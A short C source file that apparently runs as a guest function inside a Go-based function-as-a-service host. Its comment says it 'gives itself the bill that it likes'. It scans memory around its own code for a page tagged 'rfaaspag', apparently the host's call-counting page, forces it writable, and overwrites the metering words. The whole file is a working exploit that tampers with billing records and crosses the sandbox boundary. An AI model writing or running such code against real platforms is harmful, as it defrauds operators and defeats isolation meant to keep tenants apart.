/* A function that gives itself the bill that it likes: it looks for the page in which its
 * calls are counted, in the memory around its own code (it cannot read /proc), and writes
 * over the words. The result is how many it found. */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

#ifndef MADV_POPULATE_WRITE
#define MADV_POPULATE_WRITE 23 /* fails where nothing can be written */
#endif
#ifndef MAP_FIXED_NOREPLACE
#define MAP_FIXED_NOREPLACE 0x100000
#endif

enum { page = 4096, block = 512 * page, words_at = 128, words_end = 128 + 7 * 8 };

static int is_free(uintptr_t at)
{
	void *p = mmap((void *)at, block, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);
	if (p == MAP_FAILED)
		return 0;
	munmap(p, block);
	return p == (void *)at;
}

uint32_t forge(void *args, uint32_t size, void *res)
{
	/* Go reserves gigabytes, and chance decides on which side of them code and page are. */
	const uintptr_t here = (uintptr_t)forge & -block, around = (uintptr_t)16 << 30;
	int found = 0;
	for (uintptr_t first = here - around; first < here + around; first += block) {
		if (is_free(first))
			continue;
		for (uintptr_t at = first; at < first + block; at += page) {
			if (madvise((void *)at, page, MADV_POPULATE_WRITE) || memcmp((void *)at, "rfaaspag", 8))
				continue;
			memset((char *)at + words_at, 0x11, words_end - words_at);
			found++;
		}
	}
	return (uint32_t)sprintf(res, "%d", found);
}
